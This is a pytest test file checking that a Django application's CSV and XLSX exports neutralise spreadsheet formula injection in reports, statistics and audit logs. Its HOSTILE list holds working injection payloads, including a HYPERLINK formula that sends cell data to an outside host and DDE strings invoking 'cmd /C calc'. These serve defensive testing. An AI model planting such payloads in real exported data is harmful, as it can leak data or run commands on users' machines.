"""Formula injection (issue 15 § 3.1, OWASP «CSV Injection»): a text that starts with = + - @ tab or
CR is never a formula in any CSV or XLSX NIR writes — reports, statistics, the audit log, on the web
and from ``nir report`` / ``nir audit`` — and the text itself is kept; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command

from nir import spreadsheet
from nir.reports import exports, registry, statistics, stats_exports
from nir.reports.registry import ReportParams

pytestmark = pytest.mark.django_db

# What an attacker types as a name (or a URL filter), and what a spreadsheet must show.
HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def _assert_csv_safe(rows, expected_texts):
    cells = [c for row in rows for c in row]
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or _is_number(cell), repr(cell)
    for text in expected_texts:
        assert "'" + text in cells, (text, cells)


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def _assert_xlsx_safe(data: bytes, expected_texts, sheet=None):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets if sheet is None else [wb[sheet]]:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in spreadsheet.FORMULA_TRIGGERS:
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    for text in expected_texts:
        # XML reads a carriage return as a line feed (openpyxl writes it bare): that is all that changes.
        assert text.replace("\r", "\n") in values, (text, values)
    return wb


# --- the one writer ---------------------------------------------------------------------------


def test_neutralise_follows_owasp():
    for text in HOSTILE:
        assert spreadsheet.neutralise(text) == "'" + text
    for text in ("Anne", "O'Brien", " =1", "", "1-2", "a=b"):
        assert spreadsheet.neutralise(text) == text


def test_csv_writer_neutralises_text_but_keeps_numbers():
    buf = io.StringIO()
    spreadsheet.write_csv(buf, [["=1+1", -3, Decimal("-2.5"), -0.25, "-3", "a;=1+1", dt.date(2026, 1, 5), None]])
    row = _csv_rows(buf.getvalue())[0]
    assert row == ["'=1+1", "-3", "-2,5", "-0,25", "'-3", "a;=1+1", "05.01.2026", ""]


def test_xlsx_writer_neutralises_text_but_keeps_numbers():
    buf = io.BytesIO()
    spreadsheet.write_xlsx(
        buf,
        [
            spreadsheet.Sheet(
                "Ark", [[spreadsheet.Header("=h")], ["=1+1", -3, Decimal("-2.5"), "-3", dt.date(2026, 1, 5)]]
            )
        ],
    )
    wb = _assert_xlsx_safe(buf.getvalue(), ["=1+1", "-3", "=h"])
    row = [c.value for c in wb["Ark"][2]]
    assert row == ["=1+1", -3, -2.5, "-3", dt.datetime(2026, 1, 5)]
    assert wb["Ark"]["B2"].data_type == "n" and wb["Ark"]["C2"].data_type == "n"
    assert wb["Ark"]["A1"].font.bold


# --- reports ------------------------------------------------------------------------------------


@pytest.fixture
def hostile(register):
    persons = []
    for text in HOSTILE:
        p = register.person(text, text)
        register.participation(p, dt.date(2026, 1, 5))
        persons.append(p)
    return persons


def _run(**params):
    return registry.run("avvik-sluttmaal", ReportParams(**params), scope=None)


def test_report_csv_has_no_formula(hostile):
    _assert_csv_safe(_csv_rows(exports.to_csv(_run())), HOSTILE)


def test_report_xlsx_has_no_formula_also_in_om_rapporten(hostile):
    result = _run(name="=1+1")
    _assert_xlsx_safe(exports.to_xlsx(result), ["=1+1"], sheet="Om rapporten")
    _assert_xlsx_safe(exports.to_xlsx(_run()), HOSTILE, sheet="Rapport")


def test_web_report_exports_have_no_formula(hostile, client, django_user_model):
    from nir.testing.builders import make_user

    client.force_login(make_user(django_user_model, "analytiker-csv", "imdi"))
    r = client.get("/rapporter/avvik-sluttmaal/eksport.csv")
    assert r.status_code == 200
    _assert_csv_safe(_csv_rows(b"".join(r.streaming_content).decode("utf-8")), HOSTILE)
    r = client.get("/rapporter/avvik-sluttmaal/eksport.xlsx", {"name": "-1+2"})
    assert r.status_code == 200
    _assert_xlsx_safe(b"".join(r.streaming_content), ["-1+2"], sheet="Om rapporten")


def test_report_command_csv_and_diff_have_no_formula(hostile, tmp_path):
    out = tmp_path / "r.csv"
    call_command("report", "avvik-sluttmaal", "--format", "csv", "--out", str(out))
    _assert_csv_safe(_csv_rows(out.read_bytes().decode("utf-8-sig")), HOSTILE)
    out = tmp_path / "r.xlsx"
    call_command("report", "avvik-sluttmaal", "--format", "xlsx", "--out", str(out), "--name", "@x")
    _assert_xlsx_safe(out.read_bytes(), ["@x"])
    out = tmp_path / "d.csv"
    call_command(
        "report",
        "avvik-sluttmaal",
        "--known-at",
        "2000-01-01",
        "--compare-known-at",
        "now",
        "--format",
        "csv",
        "--out",
        str(out),
    )
    _assert_csv_safe(_csv_rows(out.read_bytes().decode("utf-8")), HOSTILE)


# --- statistics -----------------------------------------------------------------------------------


def test_statistics_csv_and_xlsx_through_the_one_writer(hostile, monkeypatch):
    table = statistics.yearly(statistics.StatsParams(year=2026), scope=None)
    # An area name is reference data; make one hostile to prove the path is neutralised.
    table.areas[0].name = "=1+1"
    _assert_csv_safe(_csv_rows(stats_exports.to_csv(table)), ["=1+1"])
    _assert_xlsx_safe(stats_exports.to_xlsx(table), ["=1+1"])


# --- the audit log --------------------------------------------------------------------------------


def test_audit_exports_have_no_formula(hostile, client, django_user_model, capsys):
    from nir.access.models import Organisation
    from nir.testing.builders import make_user

    org = Organisation.objects.get(code="k-5001")
    org.name = '=HYPERLINK("http://x.invalid")'
    org.save()
    admin = make_user(django_user_model, "admin-csv", "imdi", roles=["imdi_admin"])
    person = hostile[0]
    # A read by someone of the hostile organisation, so that its name is in the person's log.
    reader = make_user(django_user_model, "saksbehandler-csv", "k-5001")
    client.force_login(reader)
    assert client.get(f"/personer/{person.duf}/").status_code == 200
    client.force_login(admin)
    r = client.get(f"/administrering/tilgangslogg/person/{person.duf}.csv")
    assert r.status_code == 200
    _assert_csv_safe(_csv_rows(r.content.decode("utf-8")), [org.name])
    capsys.readouterr()
    call_command("audit", "person", person.duf, "--format", "csv")
    _assert_csv_safe(_csv_rows(capsys.readouterr().out), [org.name])
    call_command("audit", "search", "--format", "csv")
    _assert_csv_safe(_csv_rows(capsys.readouterr().out), [org.name])
